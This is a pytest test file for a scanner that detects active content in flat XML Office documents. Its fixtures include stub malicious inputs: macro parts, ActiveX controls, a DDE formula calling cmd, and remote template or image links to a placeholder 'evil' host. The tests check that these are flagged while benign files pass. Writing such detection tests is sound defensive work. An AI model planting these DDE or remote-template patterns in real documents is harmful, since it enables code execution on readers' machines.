import pytest

from tests.corpus.looking import demands, look, notes


def active(content: bytes) -> set[str]:
    """Return the demands of the active_content scanner."""
    return demands(look(content), "active_content")


WORD = (
    "<w:wordDocument xmlns:w='http://schemas.microsoft.com/office/word/2003/wordml'>"
    "{}</w:wordDocument>"
)
EXCEL = (
    "<Workbook xmlns='urn:schemas-microsoft-com:office:spreadsheet'"
    " xmlns:s='urn:schemas-microsoft-com:office:spreadsheet'>{}</Workbook>"
)
FLAT = "<p:package xmlns:p='http://schemas.microsoft.com/office/2006/xmlPackage'>{}</p:package>"
PART = "<p:part p:name='/a' p:contentType='{}'><p:binaryData>QUJD</p:binaryData></p:part>"
LINK = (
    "<p:part><p:xmlData><Relationship Type='x/{}' Target='{}' TargetMode='External'/>"
    "</p:xmlData></p:part>"
)


@pytest.mark.parametrize(
    ("form", "inner"),
    [
        (WORD, "<w:body><w:p><w:r><w:t>Bonjour</w:t></w:r></w:p></w:body>"),
        (WORD, "<w:binData w:name='wordml://02000001.jpg'>QUJD</w:binData>"),
        (WORD, "<w:attachedTemplate w:val=''/>"),
        (WORD, "<w:attachedTemplate w:val='C:\\Modeles\\Normal.dot'/>"),
        (WORD, '<w:instrText>HYPERLINK "https://example.org"</w:instrText>'),
        (EXCEL, "<Cell s:Formula='=SUM(R1C1:R2C1)'/>"),
        (FLAT, PART.format("image/png")),
        (FLAT, LINK.format("hyperlink", "https://example.org")),
    ],
)
def test_a_flat_office_document_is_passive_without_anything_active(form: str, inner: str) -> None:
    """Letters of old systems are one XML file for Word; they are noted as such."""
    inspection = look(("<?mso-application progid='Word.Document'?>" + form.format(inner)).encode())
    assert demands(inspection, "active_content") == set()
    assert notes(inspection, "active_content") == {"xml-office-document"}


@pytest.mark.parametrize(
    ("form", "inner", "rule"),
    [
        (WORD, "<w:docSuppData><w:binData w:name='editdata.mso'/></w:docSuppData>", "ooxml-macros"),
        (WORD, "<w:binData w:name='a.mso'>QUJD</w:binData>", "ooxml-macros"),
        (WORD, "<w:ocx/>", "ooxml-control"),
        (WORD, "<w:attachedTemplate w:val='https://evil/a.dot'/>", "ooxml-external-target"),
        (
            WORD,
            "<w:pict><v:imagedata xmlns:v='urn:v' src='https://evil'/></w:pict>",
            "ooxml-external-target",
        ),
        (WORD, "<w:instrText>DDE</w:instrText><w:instrText>AUTO cmd</w:instrText>", "ooxml-dde"),
        (WORD, "<w:fldSimple w:instr='INCLUDETEXT \"https://evil\"'/>", "ooxml-external-target"),
        (EXCEL, "<Cell s:Formula=\"=cmd|'/c x'!A1\"/>", "ooxml-dde"),
        (EXCEL, "<ExternName/>", "ooxml-dde"),
        (FLAT, PART.format("application/vnd.ms-office.vbaProject"), "ooxml-macros"),
        (FLAT, PART.format("application/octet-stream"), "ooxml-object"),
        (FLAT, LINK.format("attachedTemplate", "https://evil"), "ooxml-external-target"),
        (FLAT, LINK.format("oleObject", "a"), "ooxml-object"),
    ],
)
def test_what_is_active_in_a_flat_office_document(form: str, inner: str, rule: str) -> None:
    """Macros, objects, links and formulas have the rules that they have in packages."""
    assert rule in active(form.format(inner).encode())
